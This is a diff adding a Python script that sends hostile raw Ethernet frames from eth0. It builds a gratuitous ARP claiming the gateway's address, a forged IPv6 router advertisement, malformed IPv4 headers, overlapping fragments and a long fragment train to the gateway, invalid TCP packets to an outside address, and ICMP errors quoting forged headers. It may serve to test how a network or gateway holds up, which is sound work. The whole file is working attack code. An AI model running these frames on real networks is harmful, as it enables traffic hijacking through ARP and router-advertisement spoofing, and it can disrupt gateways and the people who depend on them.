@@ -1,0 +1,99 @@
+"""Sends hostile frames from eth0 with an AF_PACKET socket.
+
+Usage: python3 hostile_frames.py GATEWAY_IP GATEWAY_MAC OUTSIDE_IP
+Each kind is sent several times; prints "KIND sent N" per kind. Kinds:
+gratuitous ARP claiming the gateway's address; an IPv6 router
+advertisement; IPv4 header lies (IHL past the end, IHL below 5, total
+length past the frame, total length below the header, bad checksum);
+overlapping fragments and an endless fragment train to the gateway; TCP to
+the outside with port 0, SYN+FIN, and a data offset below 5; ICMP errors
+quoting forged headers, to the gateway and to the outside.
+"""
+import socket
+import struct
+import sys
+
+gw_ip = socket.inet_aton(sys.argv[1])
+gw_mac = bytes(int(x, 16) for x in sys.argv[2].split(":"))
+outside = socket.inet_aton(sys.argv[3])
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(("eth0", 0))
+me = s.getsockname()[4]
+# Our address: ask the kernel which source it would use towards the gateway.
+probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+probe.connect((sys.argv[1], 9))
+my_ip = socket.inet_aton(probe.getsockname()[0])
+probe.close()
+BC = b"\xff" * 6
+
+
+def csum(b):
+    if len(b) % 2:
+        b += b"\0"
+    t = sum(struct.unpack(f"!{len(b)//2}H", b))
+    while t >> 16:
+        t = (t & 0xFFFF) + (t >> 16)
+    return ~t & 0xFFFF
+
+
+def ipv4(dst, proto, payload, ihl=5, total=None, frag=0, ident=1, good_sum=True):
+    total = 20 + len(payload) if total is None else total
+    h = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, total, ident, frag, 64, proto, 0, my_ip, dst)
+    if good_sum:
+        h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
+    else:
+        h = h[:10] + b"\xde\xad" + h[12:]
+    return h + payload
+
+
+def eth(dst, kind, payload):
+    return dst + me + struct.pack("!H", kind) + payload
+
+
+def tcp(sport, dport, flags, offset=5):
+    return struct.pack("!HHIIBBHHH", sport, dport, 1, 0, offset << 4, flags, 65535, 0, 0)
+
+
+def icmp_unreach(quoted):
+    body = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
+    return body[:2] + struct.pack("!H", csum(body)) + body[4:]
+
+
+frames = {}
+frames["garp_gateway"] = [eth(BC, 0x0806, struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, me, gw_ip, BC, gw_ip))]
+ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
+ip6 = struct.pack("!IHBB16s16s", 0x60000000, len(ra), 58, 255, b"\xfe\x80" + b"\0" * 13 + b"\x01", b"\xff\x02" + b"\0" * 13 + b"\x01")
+frames["ipv6_router_advert"] = [eth(b"\x33\x33\x00\x00\x00\x01", 0x86DD, ip6 + ra)]
+udp53 = struct.pack("!HHHH", 5353, 53, 8 + 12, 0) + b"\0" * 12
+frames["ihl_past_end"] = [eth(gw_mac, 0x0800, ipv4(gw_ip, 17, udp53, ihl=15)[:30])]
+frames["ihl_below_5"] = [eth(gw_mac, 0x0800, ipv4(gw_ip, 17, udp53, ihl=3))]
+frames["total_past_frame"] = [eth(gw_mac, 0x0800, ipv4(gw_ip, 17, udp53, total=1500))]
+frames["total_below_header"] = [eth(gw_mac, 0x0800, ipv4(gw_ip, 17, udp53, total=12))]
+frames["bad_checksum"] = [eth(gw_mac, 0x0800, ipv4(gw_ip, 17, udp53, good_sum=False))]
+chunk = b"A" * 64
+frames["overlapping_fragments"] = [
+    eth(gw_mac, 0x0800, ipv4(gw_ip, 17, udp53 + chunk, frag=0x2000, ident=77)),
+    eth(gw_mac, 0x0800, ipv4(gw_ip, 17, chunk, frag=0x2000 | 2, ident=77)),
+    eth(gw_mac, 0x0800, ipv4(gw_ip, 17, chunk, frag=1, ident=77)),
+]
+frames["endless_fragments"] = [
+    eth(gw_mac, 0x0800, ipv4(gw_ip, 17, b"B" * 64, frag=0x2000 | (i * 8), ident=1000 + (i % 50)))
+    for i in range(300)
+]
+frames["tcp_port_0"] = [eth(gw_mac, 0x0800, ipv4(outside, 6, tcp(40000, 0, 0x02)))]
+frames["tcp_syn_fin"] = [eth(gw_mac, 0x0800, ipv4(outside, 6, tcp(40001, 80, 0x03)))]
+frames["tcp_bad_offset"] = [eth(gw_mac, 0x0800, ipv4(outside, 6, tcp(40002, 80, 0x02, offset=2)))]
+forged = ipv4(outside, 6, tcp(80, 40003, 0x12))[:28]
+frames["icmp_error_to_gateway"] = [eth(gw_mac, 0x0800, ipv4(gw_ip, 1, icmp_unreach(forged)))]
+frames["icmp_error_to_outside"] = [eth(gw_mac, 0x0800, ipv4(outside, 1, icmp_unreach(forged)))]
+
+for kind, batch in frames.items():
+    sent = 0
+    for _ in range(3):
+        for frame in batch:
+            try:
+                s.send(frame)
+                sent += 1
+            except OSError as e:
+                print(f"{kind} refused: {e}")
+    print(f"{kind} sent {sent}")
